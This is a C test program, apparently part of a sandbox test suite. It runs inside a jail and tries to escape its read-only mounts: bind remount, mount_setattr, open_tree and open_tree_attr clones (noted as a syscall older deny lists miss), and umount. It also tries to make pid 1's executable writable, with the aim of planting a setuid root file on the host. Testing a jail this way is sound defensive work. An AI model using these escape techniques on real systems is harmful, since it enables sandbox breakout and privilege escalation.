/*
 * Attacks on the jail's read-only mounts and on its pid 1, run inside a jail by
 * tests/test_launch_locks.py (static, so it needs nothing from the jail). Each step prints one
 * line, "STEP ok" or "STEP <error>"; an attack stops at its first failed step.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define SYS_OPEN_TREE 428
#define SYS_MOUNT_SETATTR 442
#define SYS_OPEN_TREE_ATTR 467 /* 6.15+: clone a mount and change its flags in one call */
#define CLONE_TREE 1 /* OPEN_TREE_CLONE */
#define RECURSIVE 0x8000 /* AT_RECURSIVE */
#define ATTR_RDONLY 0x1
#define ATTR_NOSUID 0x2

struct attr {
	uint64_t set, clear, propagation, userns_fd;
};

static int step(const char *what, long rc)
{
	printf("%s %s\n", what, rc < 0 ? strerror(errno) : "ok");
	fflush(stdout);
	return rc < 0 ? -1 : 0;
}

/* What the attacker wants: a setuid file of the jail's root on the host's disk. */
static int plant(int dir_fd, const char *name)
{
	int fd = openat(dir_fd, name, O_CREAT | O_WRONLY | O_CLOEXEC, 0755);
	if (step("write", fd) < 0)
		return 1;
	step("setuid", fchmod(fd, 04755));
	close(fd);
	return 0;
}

static long clear_flags(int dir_fd, const char *path, unsigned flags)
{
	struct attr attr = {.clear = ATTR_RDONLY | ATTR_NOSUID};
	return syscall(SYS_MOUNT_SETATTR, dir_fd, path, flags, &attr, sizeof(attr));
}

int main(int argc, char **argv)
{
	if (argc < 2)
		return 2;
	const char *cmd = argv[1];
	if (!strcmp(cmd, "remount") && argc == 4) {
		/* mount(2): a bind remount of PATH without MS_RDONLY (or MS_NOSUID) */
		if (step("remount", mount(NULL, argv[2], NULL, MS_REMOUNT | MS_BIND, NULL)) < 0)
			return 1;
		return plant(open(argv[2], O_PATH | O_DIRECTORY), argv[3]);
	}
	if (!strcmp(cmd, "setattr") && argc == 4) {
		/* mount_setattr(2) on PATH itself, clearing read-only and nosuid */
		if (step("setattr", clear_flags(AT_FDCWD, argv[2], 0)) < 0)
			return 1;
		return plant(open(argv[2], O_PATH | O_DIRECTORY), argv[3]);
	}
	if (!strcmp(cmd, "clone") && argc == 3) {
		/* a private clone of the root, made writable, written through its descriptor */
		int tree = syscall(SYS_OPEN_TREE, AT_FDCWD, "/", CLONE_TREE | RECURSIVE | O_CLOEXEC);
		if (step("open_tree", tree) < 0)
			return 1;
		if (step("setattr", clear_flags(tree, "", AT_EMPTY_PATH | RECURSIVE)) < 0)
			return 1;
		return plant(tree, argv[2]);
	}
	if (!strcmp(cmd, "clone-attr") && argc == 3) {
		/* the same in one open_tree_attr call, a number older deny lists do not know */
		struct attr attr = {.clear = ATTR_RDONLY | ATTR_NOSUID};
		int tree = syscall(SYS_OPEN_TREE_ATTR, AT_FDCWD, "/",
				   CLONE_TREE | RECURSIVE | O_CLOEXEC, &attr, sizeof(attr));
		if (step("open_tree_attr", tree) < 0)
			return 1;
		return plant(tree, argv[2]);
	}
	if (!strcmp(cmd, "umount") && argc == 3) {
		/* take a read-only mount away to reach what lies under it */
		step("umount", umount2(argv[2], 0));
		return step("umount-detach", umount2(argv[2], MNT_DETACH)) ? 1 : 0;
	}
	if (!strcmp(cmd, "pid1-exe")) {
		/* pid 1's executable: must be no host file the jail could change */
		char link[256] = "";
		ssize_t n = readlink("/proc/1/exe", link, sizeof(link) - 1);
		printf("readlink %s\n", n < 0 ? strerror(errno) : link);
		step("open-write", open("/proc/1/exe", O_WRONLY | O_CLOEXEC));
		int fd = open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
		if (step("open-read", fd) == 0)
			step("fchmod", fchmod(fd, 06777));
		step("chmod", chmod("/proc/1/exe", 06777));
		return 0;
	}
	return 2;
}
